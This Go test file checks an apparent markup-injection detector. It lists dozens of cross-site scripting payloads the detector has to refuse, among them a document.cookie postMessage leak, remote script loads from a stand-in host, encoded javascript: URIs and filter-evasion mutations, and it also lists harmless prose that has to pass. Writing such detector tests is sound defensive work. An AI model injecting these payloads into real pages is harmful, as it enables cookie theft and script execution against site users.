package detect

import (
	"strings"
	"testing"
)

// runningMarkup runs in a page, whatever text stands around it.
var runningMarkup = []string{
	`<script>parent.postMessage(document.cookie,'*')</script>`,
	`<ScRiPt src=//cdn.example.net/x.js></sCrIpT>`,
	`<svg><script href="data:text/javascript,top.name"/></svg>`,
	"<img src=q onerror=\talert`1`>",
	`<img/src/onerror="self['al'+'ert'](8)">`,
	`<svg/onload=location='javas'+'cript:'+name>`,
	`<details open ontoggle=confirm(document.domain)>`,
	`<body onpageshow=print.call(0),eval(name)>`,
	`<video src=_ onloadstart="import('//example.net/a.mjs'),alert(1)">`,
	`<a href="java&Tab;script&colon;alert(1)">x</a>`,
	`<a href="&#106;avascript:top.x()">x</a>`,
	`<a href=" &#x6A;a` + "\n" + `vascript:alert(2)">x</a>`,
	`<form><button formaction=javascript:alert(3)>go</form>`,
	`<math><a xlink:href="javascript:alert(4)">m</a></math>`,
	`<object data="data:text/html;base64,PHNjcmlwdD4="></object>`,
	`<iframe srcdoc="&lt;img src=1 onerror=alert(5)&gt;"></iframe>`,
	`<embed src=//example.net/a.swf>`,
	`<meta http-equiv=refresh content="0; url=javascript:alert(6)">`,
	`<base href=//example.net/>`,
	`<link rel=stylesheet href=//example.net/a.css>`,
	`<div style="width:exp/**/ression(alert(7))">`,
	`<p style="behavior:url(a.htc)">`,
	`<input autofocus onfocus=alert(9)>`,
	`"><img src=x onerror=alert(1)>`,
	`'"--></style></title></textarea><svg onload=alert(10)>`,
	`" autofocus onfocus="alert(11)`,
	`' onmouseover='alert(12)' x='`,
	`';alert(13)//`,
	`"-alert(14)-"`,
	`'+eval(atob('YQ=='))+'`,
	`\";alert(15);//`,
	`javascript:alert(16)`,
	`JaVaScRiPt:eval(name)//`,
	"java\tscript:alert(17)",
	`data:text/html,<b onclick=alert(1)>`,
	`%3Cimg%20src%3Dx%20onerror%3Dalert(18)%3E`,
	`\u003cimg src=x onerror=alert(19)\u003e`,
	`＜img src=x onerror=alert(20)＞`,
}

// strictMarkup is refused where no prose is expected.
var strictMarkup = []string{
	`<b class=x>`, `</textarea>`, `<img src=http://example.net/pixel>`, `<style>p{color:red}</style>`,
	`window.location='//example.net'`, `top["al"+"ert"](1)`, `[]["filter"]["constructor"]("x")()`,
	`(![]+[])[+[]]+(![]+[])[!+[]+!+[]]`, `&{alert(1)}`, `setTimeout('x',1)`,
}

// harmlessProse is what people write into free text.
var harmlessProse = []string{
	`I <3 this shop`, `if a < b && c > d then stop`, `x<y and y>z, so what`, `<b>bold</b> and <i>italic</i>`,
	`Use the <script> tag at the end of the page.`, `The onclick attribute did nothing for me`,
	`See <a href="https://example.com/a?b=1">my page</a> for photos`, `<img src="https://example.com/cat.png" alt="cat">`,
	`The alert (see page 4) is too loud`, `please confirm(ed by mail) the order`, `on load = 5 kg it bends`,
	`data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA`, `JavaScript: The Good Parts is a fine book`,
	"Write `<div class=\"row\">` around it", `List<String> names = new ArrayList<>();`,
	`document.getElementById is missing in my test`, `const f = (a) => a.map(x => x * 2);`, `:-) :-> <:-( >_< <- ->`,
	`He said "it works" (twice); I'm not sure.`, `we moved the location = Berlin`,
}

func TestMarkupThatRunsIsRefused(t *testing.T) {
	for _, f := range []Field{Unknown, FreeText, Name, Identifier, URL, Filename, Email, Search, Markup} {
		refuses(t, f, runningMarkup)
	}
	refuses(t, Unknown, strictMarkup)
	refuses(t, Identifier, strictMarkup)
}

func TestMarkupAlikeOfPeoplePasses(t *testing.T) {
	passes(t, FreeText, harmlessProse)
	passes(t, Markup, harmlessProse)
	passes(t, Markup, []string{`<h1>Title</h1><p class="lead" style="color:#333">Text with a <a href="/shop">link</a> and <img src="/a.png"></p><ul><li>one</ul>`})
}

func TestMarkupMutated(t *testing.T) {
	var list []string
	for _, s := range []string{`<img src="x" onerror=alert(1)>`, `<svg onload=alert(1)>`, `<script>alert(1)</script>`, `<a href=javascript:alert(1)>x</a>`} {
		list = append(list, strings.ToUpper(s), strings.ReplaceAll(s, " ", "/"), strings.ReplaceAll(s, " ", "\n"), strings.ReplaceAll(s, " ", " a=b "),
			strings.ReplaceAll(s, " ", "\f"), s[:len(s)-1], "text before "+s, s+" text behind", `">`+s, `<!-- --`+`>`+s, "\x00"+s,
			strings.ReplaceAll(s, "alert", "top.alert"), strings.ReplaceAll(s, "alert(1)", "alert`1`"), strings.ReplaceAll(s, "alert(1)", "(alert)(1)"),
			strings.ReplaceAll(s, "<", "<a "+"<"), strings.ReplaceAll(s, "<", "%3c"), strings.ReplaceAll(s, "<", "&lt;"))
	}
	refuses(t, Unknown, list)
	refuses(t, FreeText, list)
}
